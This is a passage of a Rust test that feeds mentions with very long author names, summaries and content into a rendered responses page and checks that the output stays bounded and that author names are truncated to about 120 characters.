        let mut value = hostile_mention(property, n, "x", false);
        value["author"]["name"] = json!(long);
        value["name"] = json!(long);
        value["summary"] = json!(long);
        value["content"] = json!({ "text": format!("{} {long}", n) });
        all = all.add(&value);
    }
    let page = all.page();
    assert!(page.one(".responses").text.len() < 10_000, "{}", page.one(".responses").text.len());
    for name in page.texts(".responses .p-author .p-name") {
        assert!(name.starts_with("endless") && name.chars().count() <= 121, "{name}");
    }
}
